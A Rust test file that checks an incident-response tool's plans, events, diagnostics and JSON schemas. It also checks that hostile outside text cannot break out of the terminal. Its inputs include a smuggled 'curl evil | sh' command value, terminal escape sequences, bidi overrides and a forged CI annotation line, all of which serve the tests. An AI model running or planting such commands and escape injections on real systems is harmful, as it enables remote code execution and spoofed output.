//! Golden output, the schemas, and the promise that no text from outside breaks out.

use std::collections::{BTreeMap, BTreeSet};

use proptest::prelude::*;
use unicode_width::UnicodeWidthStr;

use super::board::Board;
use super::samples::*;
use super::{
    Style, annotations, codes, diagnostic, escape, event, pictures, plan as human, report, schema,
    state as states, told,
};
use crate::engine::{Event, Progress};
use crate::manifest::Diagnostic;
use crate::model::{Dependency, Until};
use crate::plan::{Action, Estimate, Plan, Reason};
use crate::render::plan_json::PlanDocument;

const PLAIN: Style = Style { width: 80, color: false, verbose: 0 };

fn style(width: usize) -> Style {
    Style { width, ..PLAIN }
}

/// Escape sequences as visible text, so that snapshots can be read.
fn visible(text: &str) -> String {
    text.replace('\u{1b}', "␛")
}

fn full_plan(t: &str) -> Plan {
    let mut plan = plan(every_reason(t));
    plan.warnings = every_plan_warning(t);
    plan.groups = groups(t);
    plan.forecast = Some(forecast());
    plan.estimate =
        Estimate { seconds: 250, calls: BTreeMap::from([("alert".into(), 3), ("collect".into(), 12_000)]) };
    plan
}

fn events(t: &str) -> Vec<Event> {
    let at = now();
    let a = || address("InvestigationPackage/fin-ws-042");
    let error = |status, code: &str| refusal(status, code, &format!("Not possible{t}"));
    let digest = full_plan("").digest;
    let why = format!("connection reset while the answer was read{t}");
    const ID: &str = "5382f7ea-7557-4ab7-9782-d50480024a4e";
    vec![
        Event::Planned { at, digest, summary: BTreeMap::from([(Action::Create, 2), (Action::NoOp, 40)]) },
        Event::Intent { at, address: a(), action: Action::Create, attempt: 17 },
        Event::Accepted { at, address: a(), action: Action::Create, object: object(t) },
        Event::Accepted { at, address: a(), action: Action::Cancel, object: object(t) },
        Event::Busy { at, address: a(), error: error(400, "ActiveRequestAlreadyExists") },
        Event::Adopted { at, address: a(), object: object(t), ours: true },
        Event::Adopted { at, address: a(), object: object(t), ours: false },
        Event::Rejected { at, address: a(), action: Action::Create, error: error(403, "Forbidden") },
        Event::Rejected {
            at,
            address: a(),
            action: Action::Create,
            error: error(400, "OsPlatformNotSupported"),
        },
        Event::Rejected { at, address: a(), action: Action::Cancel, error: error(401, "Unauthorized") },
        Event::Throttled { at, address: a(), until: ago(-60), error: error(429, "TooManyRequests") },
        Event::Unsent { at, address: a(), why: why.clone() },
        Event::Unknown { at, address: a(), why, until: ago(-30) },
        Event::Observed { at, address: a(), object: object(t) },
        Event::Late { at, address: a(), object: object(t) },
        Event::Fetching { at, address: a(), id: ID.into(), file: format!("k/a/m.zip{t}"), resumed: 8 << 20 },
        Event::Fetched {
            at,
            address: a(),
            id: ID.into(),
            store: format!("file:evidence{t}"),
            file: format!("k/a/m.zip{t}"),
            size: 123_456_789,
            sha256: crate::model::Sha256Hex::of(b"test"),
        },
        Event::FetchFailed { at, address: a(), id: ID.into(), why: format!("HTTP 503{t}"), later: false },
        Event::FetchFailed { at, address: a(), id: ID.into(), why: format!("not yet{t}"), later: true },
        Event::Executed {
            at,
            address: a(),
            id: ID.into(),
            file: format!("k/a/m.zip{t}"),
            exit_code: Some(0),
            why: None,
        },
        Event::Executed {
            at,
            address: a(),
            id: ID.into(),
            file: format!("k/a/m.zip{t}"),
            exit_code: Some(3),
            why: Some(format!("exit status: 3{t}")),
        },
        Event::Held {
            at,
            address: a(),
            waits_for: vec![Dependency {
                address: address("InvestigationPackage/first"),
                until: Until::Succeeded,
            }],
        },
        Event::Stopped {
            at,
            quota: "collect".into(),
            permission: "Machine.CollectForensics".into(),
            error: Some(error(403, "Forbidden")),
            until: None,
        },
        Event::Stopped {
            at,
            quota: "alert".into(),
            permission: "Alert.ReadWrite.All".into(),
            error: None,
            until: Some(ago(-86_400)),
        },
        Event::Summary {
            at,
            counts: BTreeMap::from([("accepted".into(), 2), ("rejected".into(), 1), (format!("new{t}"), 1)]),
            attention: vec![a(), address("Alert/phish-1")],
            left: 3,
            exit_code: 1,
        },
    ]
}

fn progress() -> Vec<Progress> {
    vec![
        Progress::Started { calls: 1_200 },
        Progress::WaitingForQuota { quota: "collect", until: ago(-1_500) },
        Progress::Settling { calls: 1, until: ago(-8) },
        Progress::Following { running: 3, next: ago(-15), until: ago(-86_400) },
    ]
}

/// Everything for people, with `t` wherever text from outside can stand.
fn everything(t: &str, style: Style) -> String {
    let mut out = human::plan(&full_plan(t), style, now());
    out.push_str(&pictures::run(t, style));
    for e in events(t) {
        out.push_str(&event::human(&e, &Board::default(), style));
    }
    for p in progress() {
        out.push_str(&event::progress(&p, style, now()));
        out.push('\n');
    }
    let state = state(t);
    out.push_str(&states::table(&states::StateDocument::new(&state, |_, _| true), style, now()));
    out.push_str(&states::show(&address("InvestigationPackage/a"), &full_resource(t), style, now()));
    for (a, r) in &state.resources {
        out.push_str(&states::show(a, r, style, now()));
    }
    out.push_str(&diagnostic::human(&hostile_diagnostics(t), LOOKED, style));
    out.push_str(&told::for_people(t, style));
    out
}

fn hostile_diagnostics(t: &str) -> Vec<Diagnostic> {
    let mut all = diagnostics(t);
    for d in &mut all {
        d.file = format!("{}{t}", d.file).into();
        d.source_line.push_str(t);
        for r in &mut d.related {
            r.file = d.file.clone();
        }
    }
    all
}

const LOOKED: diagnostic::Looked = diagnostic::Looked { files: 17, resources: 240 };

/// Every document for programs, with `t` wherever text from outside can stand.
fn documents(t: &str) -> String {
    let mut out = PlanDocument::from(&full_plan(t)).to_text().unwrap();
    for e in events(t) {
        out.push_str(&event::json_line(&e).unwrap());
        out.push('\n');
    }
    out.push_str(&states::StateDocument::new(&state(t), |_, _| true).to_text().unwrap());
    out.push_str(&told::documents(t));
    let diagnostics = hostile_diagnostics(t);
    out.push_str(&diagnostic::json(&diagnostics, LOOKED).unwrap());
    out.push_str(&annotations::github(&diagnostics, "ir"));
    out.push_str(&annotations::sarif(&diagnostics, "ir", "0.1.0").unwrap());
    out
}

#[test]
fn every_reason_has_a_sample() {
    let made: Vec<&str> = every_reason("").iter().map(|c| codes::reason(&c.reason)).collect();
    assert_eq!(made.iter().collect::<BTreeSet<_>>(), codes::REASONS.iter().collect::<BTreeSet<_>>());
    let actions: BTreeSet<Action> = every_reason("").iter().map(|c| c.action).collect();
    assert_eq!(actions, Action::ALL.into_iter().collect());
}

#[test]
fn plan_at_80() {
    insta::assert_snapshot!(human::plan(&full_plan(""), style(80), now()));
}

#[test]
fn plan_at_120() {
    insta::assert_snapshot!(human::plan(&full_plan(""), style(120), now()));
}

#[test]
fn plan_verbose_at_80() {
    insta::assert_snapshot!(human::plan(&full_plan(""), Style { verbose: 1, ..style(80) }, now()));
}

#[test]
fn plan_in_colour_at_80() {
    let out = human::plan(&full_plan(""), Style { color: true, ..style(80) }, now());
    insta::assert_snapshot!(visible(&out));
}

#[test]
fn plan_in_colour_at_120() {
    let out = human::plan(&full_plan(""), Style { color: true, ..style(120) }, now());
    insta::assert_snapshot!(visible(&out));
}

#[test]
fn plan_hostile_wide_and_long() {
    let long = format!("InvestigationPackage/{}", "very-long-name.".repeat(12));
    let mut rows = vec![
        change(&long, Action::Create, Reason::New),
        change("InvestigationPackage/hostile", Action::Create, Reason::New),
        change("InvestigationPackage/wide", Action::Create, Reason::New),
        change(
            "InvestigationPackage/shell",
            Action::Unresolved,
            Reason::FailOnRunning {
                id: "x; curl evil | sh".into(),
                requestor: Some("\u{1b}]0;owned\u{7}".into()),
            },
        ),
    ];
    rows[1].call = Some(planned(collect("ok\u{1b}[2J\u{202e}txt.exe\r\nforged line").request()));
    rows[2].call = Some(planned(
        collect("警告：東京支店の端末からフォレンジックパッケージを収集します。至急対応をお願いします")
            .request(),
    ));
    insta::assert_snapshot!(human::plan(&plan(rows), style(80), now()));
}

#[test]
fn plans_without_calls() {
    let none = |n: usize| -> Vec<_> {
        (0..n).map(|i| change(&format!("Alert/a{i}"), Action::NoOp, Reason::Done)).collect()
    };
    let mut out = String::new();
    for changes in [vec![], none(1), none(42)] {
        out.push_str(&human::plan(&plan(changes), PLAIN, now()));
    }
    let mut waiting = none(2);
    waiting.push(change("Alert/b", Action::Wait, Reason::OutcomeNotLooked));
    out.push_str(&human::plan(&plan(waiting), PLAIN, now()));
    insta::assert_snapshot!(out);
}

#[test]
fn five_thousand_rows_stay_readable() {
    let mut rows: Vec<_> = (0..5_000)
        .map(|n| change(&format!("InvestigationPackage/ws-{n:05}"), Action::Create, Reason::New))
        .collect();
    rows[4_000].warnings = every_warning("").into();
    let plan = plan(rows);
    let out = human::plan(&plan, PLAIN, now());
    assert!(out.lines().count() < 100, "{out}");
    insta::assert_snapshot!(out);
    let all = human::plan(&plan, Style { verbose: 1, ..PLAIN }, now());
    assert!(all.matches("      create: new\n").count() == 5_000);
}

#[test]
fn events_at_80() {
    let out: String = events("").iter().map(|e| event::human(e, &Board::default(), style(80))).collect();
    insta::assert_snapshot!(out);
}

#[test]
fn events_in_a_log() {
    let lines: Vec<String> =
        events("").iter().map(|e| event::human(e, &Board::default(), style(usize::MAX))).collect();
    let (_summary, events) = lines.split_last().unwrap();
    assert!(events.iter().all(|e| e.lines().count() == 1), "one line an event");
    let out = lines.concat();
    insta::assert_snapshot!(out);
}

#[test]
fn progress_lines() {
    let out: Vec<String> = progress().iter().map(|p| event::progress(p, PLAIN, now())).collect();
    insta::assert_snapshot!(out.join("\n"));
}

#[test]
fn event_lines_for_programs() {
    let out: Vec<String> = events("").iter().map(|e| event::json_line(e).unwrap()).collect();
    insta::assert_snapshot!(out.join("\n"));
}

#[test]
fn state_tables() {
    let state = state("");
    let document = states::StateDocument::new(&state, |_, _| true);
    let out: Vec<String> = [80, 120, 200].map(|w| states::table(&document, style(w), now())).into();
    insta::assert_snapshot!(out.join("\n"));
}

#[test]
fn state_of_one_resource() {
    let alert = address("Alert/fin-ws-042-exploit");
    let state = state("");
    let mut out = states::show(&address("InvestigationPackage/fin-ws-042"), &full_resource(""), PLAIN, now());
    out.push_str(&states::show(&alert, &state.resources[&alert], PLAIN, now()));
    insta::assert_snapshot!(out);
    let document = states::StateDocument::new(&state, |a, _| *a == alert).to_text().unwrap();
    insta::assert_snapshot!("state_json", document);
}

#[test]
fn diagnostics_for_people() {
    let mut out = diagnostic::human(&diagnostics(""), LOOKED, style(80));
    out.push_str(&diagnostic::human(&[], LOOKED, PLAIN));
    insta::assert_snapshot!(out);
    let colour = diagnostic::human(&diagnostics(""), LOOKED, Style { color: true, ..PLAIN });
    insta::assert_snapshot!("diagnostics_in_colour", visible(&colour));
}

#[test]
fn every_broken_example_shows_its_place() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/invalid");
    let mut project = crate::manifest::Project::new("examples");
    project.spec.manifests = vec![".".into()];
    let found = crate::manifest::load(&folder, &project).diagnostics;
    assert!(found.len() > 35, "{}", found.len());
    for width in [40, 80, 200] {
        for d in &found {
            let out = diagnostic::human(std::slice::from_ref(d), LOOKED, style(width));
            let lines: Vec<&str> = out.lines().collect();
            let place = format!("--> {}:{}:{}", d.file, d.line, d.column);
            let at = lines.iter().position(|l| l.trim_start() == place).expect(&out);
            if d.source_line.is_empty() {
                continue;
            }
            let (source, carets) = (lines[at + 2], lines[at + 3]);
            let from = carets.find('^').expect(&out);
            assert_eq!(carets.trim_start_matches([' ', '|']).trim_matches('^'), "", "{out}");
            // The first marked character stands above the first caret.
            let start = (d.column - 1 - d.source_offset) as usize;
            if let Some(marked) = d.source_line.chars().nth(start) {
                let mut columns = 0;
                let above: String = source
                    .chars()
                    .skip_while(|c| {
                        let before = columns < from;
                        columns += c.to_string().width();
                        before
                    })
                    .collect();
                assert!(above.starts_with(&*escape::one_line(&marked.to_string())), "{out}");
            }
        }
    }
}

#[test]
fn diagnostics_for_programs() {
    insta::assert_snapshot!("diagnostics_json", diagnostic::json(&diagnostics("")[1..2], LOOKED).unwrap());
    insta::assert_snapshot!("diagnostics_github", annotations::github(&diagnostics(""), "ir"));
    insta::assert_snapshot!(
        "diagnostics_sarif",
        annotations::sarif(&diagnostics("")[1..3], "ir", "0.1.0").unwrap()
    );
}

fn golden(schema: &serde_json::Value, kind: &str, file: &str) {
    let want = format!("{}\n", serde_json::to_string_pretty(schema).unwrap());
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(file);
    let is = std::fs::read_to_string(path).unwrap_or_default();
    assert!(
        want == is,
        "{file} differs from the types. Regenerate it: casefile schema {kind} > {file}\n\n{want}"
    );
}

#[test]
fn schemas_are_committed() {
    golden(&schema::plan_schema(), "plan", "schemas/plan.schema.json");
    golden(&schema::event_schema(), "event", "schemas/event.schema.json");
    golden(&schema::status_schema(), "status", "schemas/status.schema.json");
    golden(&report::report_schema(), "report", "schemas/report.schema.json");
}

#[test]
fn every_field_has_a_description_and_an_example() {
    fn walk(at: &str, schema: &serde_json::Value, root: &serde_json::Value) {
        let Some(map) = schema.as_object() else { return };
        for (name, field) in map.get("properties").and_then(|p| p.as_object()).into_iter().flatten() {
            let target = field["$ref"].as_str().and_then(|r| root.pointer(r.trim_start_matches('#')));
            let has = |key: &str| field.get(key).is_some() || target.is_some_and(|t| t.get(key).is_some());
            // The tag of an event is described by its variant.
            assert!(has("description") || has("const"), "{at}.{name} has no description");
            assert!(has("examples") || has("const") || has("enum"), "{at}.{name} has no example");
            // An example that does not fit would teach the wrong shape.
            let mut alone = field.clone();
            alone["$defs"] = root["$defs"].clone();
            let validator = jsonschema::draft202012::new(&alone).unwrap();
            for example in field["examples"].as_array().into_iter().flatten() {
                assert!(validator.is_valid(example), "{at}.{name}: {example}");
            }
        }
        for (key, value) in map {
            walk(&format!("{at}.{key}"), value, root);
            for item in value.as_array().into_iter().flatten() {
                walk(&format!("{at}.{key}"), item, root);
            }
        }
    }
    let all =
        [schema::plan_schema(), schema::event_schema(), schema::status_schema(), report::report_schema()];
    for schema in all {
        walk("", &schema, &schema);
    }
}

fn valid(schema: &serde_json::Value, document: &str) {
    let validator = jsonschema::draft202012::new(schema).unwrap();
    let document = serde_json::from_str(document).unwrap();
    let errors: Vec<String> =
        validator.iter_errors(&document).map(|e| format!("{}: {e}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn documents_fit_their_schemas() {
    for t in ["", "\u{1b}[0m\u{202e}\n\"東京"] {
        let document = PlanDocument::from(&full_plan(t)).to_text().unwrap();
        valid(&schema::plan_schema(), &document);
        valid(&schema::status_schema(), &told::status_document(t));
        for e in events(t) {
            valid(&schema::event_schema(), &event::json_line(&e).unwrap());
        }
    }
    let validator = jsonschema::draft202012::new(&schema::plan_schema()).unwrap();
    let mut broken = serde_json::to_value(PlanDocument::from(&full_plan(""))).unwrap();
    broken["changes"][0].as_object_mut().unwrap().remove("request");
    assert!(!validator.is_valid(&broken));
}

#[test]
fn the_plan_document() {
    let rows = every_reason("").into_iter().filter(|c| {
        matches!(c.reason, Reason::NewRevision { .. } | Reason::SideCallOpen { .. } | Reason::ManifestGone)
    });
    let mut plan = plan(rows.collect());
    plan.warnings = every_plan_warning("").split_off(3);
    insta::assert_snapshot!(PlanDocument::from(&plan).to_text().unwrap());
}

/// Takes out the SGR sequences that are emitted here; anything else that begins with ESC stays.
fn without_sgr(text: &str) -> String {
    let mut parts = text.split('\u{1b}');
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let end = part.find(|c: char| !(c == '[' || c == ';' || c.is_ascii_digit()));
        match end.and_then(|i| part.split_at_checked(i)) {
            Some((head, tail)) if head.starts_with('[') && tail.starts_with('m') => out.push_str(&tail[1..]),
            _ => {
                out.push('\u{1b}');
                out.push_str(part);
            }
        }
    }
    out
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\u{1b}[31m".to_owned()),
        Just("\u{1b}]0;title\u{7}".to_owned()),
        Just("\r\n::error::x".to_owned()),
        Just("\u{9b}2J".to_owned()),
        Just("\u{202e}\u{2066}\u{200b}\u{feff}".to_owned()),
        Just("\u{2028}\u{85}\u{c}\u{8}\u{7f}\0\t".to_owned()),
        Just("東京".to_owned()),
        any::<char>().prop_map(String::from),
        "[a-z ]{0,30}",
    ];
    proptest::collection::vec(piece, 1..8).prop_map(|p| p.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn nothing_breaks_out_of_the_terminal(t in hostile(), width in 40usize..130) {
        let bad = |c: char| escape::is_hidden(c) && c != '\n';
        let lines = |s: &str| s.lines().count();
        for verbose in [0, 1] {
            let plain = everything(&t, Style { width, color: false, verbose });
            prop_assert!(!plain.chars().any(bad), "{plain}");
            let colour = everything(&t, Style { width, color: true, verbose });
            prop_assert_eq!(lines(&colour), lines(&plain));
            prop_assert!(!without_sgr(&colour).chars().any(bad), "{colour}");
        }
        let documents = documents(&t);
        prop_assert!(!documents.chars().any(bad), "{documents}");
        // Not one command more than there are problems.
        let commands = annotations::github(&hostile_diagnostics(&t), "ir");
        prop_assert_eq!(lines(&commands), diagnostics("").len());
        prop_assert!(commands.lines().all(|l| l.starts_with("::error ") || l.starts_with("::warning ")));
    }

    #[test]
    fn nothing_is_wider_than_the_terminal(t in "[a-z東京 ]{0,80}", width in 40usize..130) {
        for verbose in [0, 1] {
            let style = Style { width, color: false, verbose };
            for line in everything(&t, style).lines() {
                prop_assert!(line.width() <= width, "{} > {width}: {line:?}", line.width());
            }
        }
    }

    #[test]
    fn values_survive_the_documents(t in hostile()) {
        let document: serde_json::Value =
            serde_json::from_str(&PlanDocument::from(&full_plan(&t)).to_text().unwrap()).unwrap();
        let row = document["changes"].as_array().unwrap().iter().find(|c| c["reasonCode"] == "new-revision");
        let comment = format!("Collect forensics{t}");
        prop_assert_eq!(row.unwrap()["after"]["comment"].as_str(), Some(comment.as_str()));
    }
}
